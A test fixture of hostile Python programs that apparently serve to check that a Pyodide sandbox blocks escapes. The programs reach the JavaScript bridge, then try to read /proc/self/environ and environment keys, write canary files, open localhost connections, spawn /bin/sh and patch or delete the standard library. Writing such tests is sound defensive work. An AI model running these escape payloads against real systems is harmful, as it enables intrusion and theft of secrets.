// Hostile Python programs for test/sandbox/sandbox.test.ts: each tries one of the escapes of issue #12.
// They print what they reached; the test checks the host instead of trusting that output.

/** Gets hold of Pyodide's JavaScript bridge by every route the issue lists; defines core, create_proxy, jsobj. */
export const REACH_JS = String.raw`
import gc, sys, types
def _find_core():
    for m in gc.get_objects():
        if isinstance(m, types.ModuleType) and m.__name__ == '_pyodide_core':
            return m
    try:
        import _imp, importlib.machinery
        return _imp.create_builtin(importlib.machinery.ModuleSpec('_pyodide_core', None))
    except BaseException as e:
        print('create_builtin:', type(e).__name__)
    sys.meta_path.clear()
    sys.modules.pop('_pyodide_core', None)
    try:
        import _pyodide_core
        return _pyodide_core
    except BaseException as e:
        print('meta_path cleared:', type(e).__name__)
core = _find_core()
create_proxy = next((o for o in gc.get_objects() if callable(o) and getattr(o, '__name__', '') == 'create_proxy'), None)
jsobj = next((o for o in gc.get_objects() if any(c.__name__ == 'JsProxy' for c in type(o).__mro__)), None)
if jsobj is None and core is not None:
    jsobj = core.to_js({'a': 1})
print('reached', core is not None, create_proxy is not None, jsobj is not None)
`;

/** With a JS object in hand: host actions through a captured globalThis (the chain). */
const HOST_ACTIONS = String.raw`
def try_host(g):
    steps = [
        ('hostname', lambda: g.process.getBuiltinModule('fs').readFileSync('/etc/hostname', 'utf8')),
        ('write', lambda: g.process.getBuiltinModule('fs').writeFileSync(CANARY_DIR + '/pwned', 'x')),
        ('environ', lambda: g.process.getBuiltinModule('fs').readFileSync('/proc/self/environ', 'latin1')),
        ('env', lambda: g.process.env[KEY_NAME]),
        ('net', lambda: g.process.getBuiltinModule('net').connect(PORT, '127.0.0.1')),
        ('binding', lambda: g.process.binding('spawn_sync').spawn(core.to_js({'file': '/bin/sh', 'args': ['/bin/sh', '-c', 'touch ' + CANARY_DIR + '/shell'], 'stdio': []}))),
        ('require', lambda: g.require('fs').writeFileSync(CANARY_DIR + '/pwned', 'x')),
        ('fetch', lambda: g.fetch('http://127.0.0.1:%d/' % PORT)),
    ]
    for name, step in steps:
        try:
            print(name, 'ok', str(step())[:200])
        except BaseException as e:
            print(name, 'blocked', type(e).__name__)
`;

export const PROTOTYPE_GETTER = REACH_JS + HOST_ACTIONS + String.raw`
import ctypes
captured = []
def getter(this=None, *a):
    captured.append(this)
    return 2
try:
    Obj = jsobj.constructor
    desc = core.to_js({'get': create_proxy(getter, capture_this=True), 'configurable': True}, dict_converter=Obj.fromEntries)
    Obj.defineProperty(Obj.prototype, 'devicePixelRatio', desc)
    print('getter defined')
except BaseException as e:
    print('getter blocked', type(e).__name__)
try:
    print('dpr', ctypes.PyDLL(None).emscripten_get_device_pixel_ratio())
except BaseException as e:
    print('dpr blocked', type(e).__name__)
for g in captured:
    if g is not None:
        try_host(g)
`;

export const FUNCTION_CONSTRUCTOR = REACH_JS + HOST_ACTIONS + String.raw`
for src in ('return globalThis', 'return process'):
    try:
        g = jsobj.constructor.constructor(src)()
        print('function ctor ok')
        try_host(g)
    except BaseException as e:
        print('function ctor blocked', type(e).__name__)
import ctypes
for fn in ('emscripten_run_script', 'emscripten_run_script_int', 'emscripten_run_script_string'):
    try:
        getattr(ctypes.CDLL(None), fn)(("require('fs').writeFileSync('%s/pwned', 'x')" % CANARY_DIR).encode())
        print(fn, 'returned')
    except BaseException as e:
        print(fn, 'blocked', type(e).__name__)
`;

export const FORGE_STRING_PROTOTYPE = REACH_JS + String.raw`
try:
    proto = jsobj.constructor.getPrototypeOf('')
    proto.replace = create_proxy(lambda *a: 'FORGED 3')
    print('patched', ''.join(['x']))
except BaseException as e:
    print('String.prototype blocked', type(e).__name__)
for name in ('decode', 'toString'):
    try:
        td = jsobj.constructor.getPrototypeOf(core.to_js(b'x'))
        setattr(td, name, create_proxy(lambda *a: 'FORGED 3'))
        print('patched', name)
    except BaseException as e:
        print(name, 'blocked', type(e).__name__)
`;

export const OUTLIVING_CALLBACKS = String.raw`
import asyncio, builtins, math, gc
def later():
    math.pi = 3
    builtins.print = lambda *a, **k: None
    open('/tmp/planted.txt', 'w').write('x')
loop = asyncio.get_event_loop()
loop.call_later(0.05, later)
loop.call_soon(later)
gc.callbacks.append(lambda *a: later())
print('scheduled')
`;

export const BACKGROUND_BUSY_LOOP = String.raw`
import asyncio, gc, sys
def spin():
    while True:
        pass
asyncio.get_event_loop().call_later(0.01, spin)
gc.callbacks.append(lambda *a: spin())
sys.setprofile(lambda *a: None)
print('spinning later')
`;

export const PATCHED_STDLIB = String.raw`
import collections, json, math, os, builtins
collections.Counter.most_common = lambda self, n=None: [('FORGED', 3)]
json.dumps = lambda *a, **k: 'FORGED'
math.pi = 3
builtins.sum = lambda *a: 'FORGED 3'
os.environ['PLANTED'] = '1'
open('/home/pyodide/planted.txt', 'w').write('x')
print('patched')
`;

export const DELETED_STDLIB_ZIP = String.raw`
import os, sys
print([p for p in sys.path if p.endswith('.zip')])
os.remove('/lib/python314.zip')
print('removed')
`;

/** The innocent program run after each hostile one, and what it must print. */
export const INNOCENT = String.raw`
import collections, json, math, os, fractions
print(sum(range(10)), collections.Counter('abca').most_common(1), json.dumps([1]), round(math.pi, 4), fractions.Fraction(1, 3) + 1, sorted(os.listdir('/tmp')), 'PLANTED' in os.environ)
`;
export const INNOCENT_OUT = "45 [('a', 2)] [1] 3.1416 4/3 [] False\n";
